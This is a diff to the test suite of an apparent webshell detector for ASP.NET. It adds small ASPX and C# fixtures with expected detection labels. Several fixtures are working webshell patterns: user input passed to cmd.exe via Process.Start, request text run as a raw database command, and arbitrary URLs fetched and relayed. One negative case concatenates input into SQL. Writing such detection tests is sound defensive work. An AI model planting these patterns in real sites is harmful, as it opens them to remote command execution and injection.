@@ -136,6 +136,77 @@ const CASES: Readonly<Record<string, readonly [Readonly<Record<string, string>>,
     },
     ['webshell.transform-with-script a.aspx'],
   ],
+  // What the controls of a page hold is known in the page alone.
+  consoleBehind: [
+    {
+      'a.aspx': '<%@ Page Language="C#" CodeBehind="a.aspx.cs" Inherits="A" %><asp:TextBox id="line" runat="server" />',
+      'a.aspx.cs':
+        'public partial class A : System.Web.UI.Page { void Go(object s, EventArgs e) { var c = Factory.Open().CreateCommand(); c.CommandText = line.Text; c.ExecuteReader(); } }',
+    },
+    ['webshell.database-console a.aspx'],
+  ],
+  consoleBehindOwn: [
+    {
+      'a.aspx': '<%@ Page Language="C#" CodeBehind="a.aspx.cs" Inherits="A" %><asp:TextBox id="line" runat="server" />',
+      'a.aspx.cs':
+        'public partial class A : System.Web.UI.Page { void Go(object s, EventArgs e) { var c = Factory.Open().CreateCommand(); c.CommandText = "SELECT a FROM b WHERE c = \'" + line.Text + "\'"; c.ExecuteReader(); } }',
+    },
+    [],
+  ],
+  loadedBehind: [
+    {
+      'a.aspx': '<%@ Page Language="C#" CodeFile="a.aspx.cs" Inherits="A" %><asp:TextBox id="line" runat="server" />',
+      'a.aspx.cs':
+        'public partial class A : System.Web.UI.Page { void Go(object s, EventArgs e) { Controls.Add(LoadControl(line.Text)); } void Show(object s, EventArgs e) { Controls.Add(LoadControl("~/a.ascx")); } }',
+    },
+    [`${EVALUATED} a.aspx`],
+  ],
+  askedBehind: [
+    {
+      'a.aspx': '<%@ Page Language="C#" CodeFile="a.aspx.cs" Inherits="A" %><asp:TextBox id="line" runat="server" />',
+      'a.aspx.cs':
+        'public partial class A : System.Web.UI.Page { void Go(object s, EventArgs e) { using (var r = new System.IO.StreamReader(WebRequest.Create(line.Text).GetResponse().GetResponseStream())) Response.Write(r.ReadToEnd()); } }',
+    },
+    ['webshell.relayed-content a.aspx'],
+  ],
+  askedBehindOwn: [
+    {
+      'a.aspx': '<%@ Page Language="C#" CodeFile="a.aspx.cs" Inherits="A" %><asp:TextBox id="line" runat="server" />',
+      'a.aspx.cs':
+        'public partial class A : System.Web.UI.Page { void Go(object s, EventArgs e) { using (var r = new System.IO.StreamReader(WebRequest.Create("http://rates.example/?a=" + line.Text).GetResponse().GetResponseStream())) Response.Write(r.ReadToEnd()); } }',
+    },
+    [],
+  ],
+  // Controls of the site that a page registers, and sets.
+  control: [
+    {
+      'a.aspx':
+        '<%@ Page Language="C#" %><%@ Register TagPrefix="uc" TagName="Box" Src="~/uc/Box.ascx" %><% one.Line = Request["a"]; %><uc:Box id="one" runat="server" />',
+      'uc/Box.ascx': '<%@ Control Language="C#" CodeFile="Box.ascx.cs" Inherits="Site.UcBox" %>',
+      'uc/Box.ascx.cs':
+        'namespace Site { public partial class UcBox : System.Web.UI.UserControl { public string Line { get; set; } void Page_PreRender(object s, EventArgs e) { System.Diagnostics.Process.Start("cmd.exe", "/c " + Line); } } }',
+    },
+    [`${STARTED} a.aspx`],
+  ],
+  controlWithin: [
+    {
+      'a.aspx':
+        '<%@ Page Language="C#" %><%@ Register TagPrefix="uc" TagName="Box" Src="Box.ascx" %><% one.Line = Request["a"]; %><uc:Box id="one" runat="server" />',
+      'Box.ascx':
+        '<%@ Control Language="C#" %><script runat="server">public string Line { get; set; } void Page_PreRender(object s, EventArgs e) { System.Diagnostics.Process.Start("cmd.exe", "/c " + Line); }</script>',
+    },
+    [`${STARTED} a.aspx`],
+  ],
+  controlShown: [
+    {
+      'a.aspx':
+        '<%@ Page Language="C#" %><%@ Register TagPrefix="uc" TagName="Box" Src="~/uc/Box.ascx" %><% one.Line = Request["a"]; %><uc:Box id="one" runat="server" />',
+      'uc/Box.ascx': '<%@ Control Language="C#" CodeFile="Box.ascx.cs" Inherits="Site.UcBox" %>',
+      'uc/Box.ascx.cs':
+        'namespace Site { public partial class UcBox : System.Web.UI.UserControl { public string Line { get; set; } public string Tool { get; set; } void Page_PreRender(object s, EventArgs e) { shown.Text = Server.HtmlEncode(Line); Tool = "ipconfig.exe"; System.Diagnostics.Process.Start(Tool); } } }',
+    },
+    [],
+  ],
   numbered: [
     {
       'a.asp': '<% txt = Session("note" & Request("n"))\nResponse.Write Eval(txt) %>',
@@ -233,7 +304,7 @@ describe('a page is judged with the files that it takes in', () => {
     );
     const shown = together?.evidence.flatMap((one) => (one.type === 'content' ? (one.path ?? []) : []));
     // Of these the page only declares what its code holds.
-    if (together !== undefined && !/^(?:alone|behind|password)$/.test(host))
+    if (together !== undefined && !/^(?:alone|password)$|behind$/i.test(host))
       expect(new Set(shown).size).toBeGreaterThan(1);
   });
 
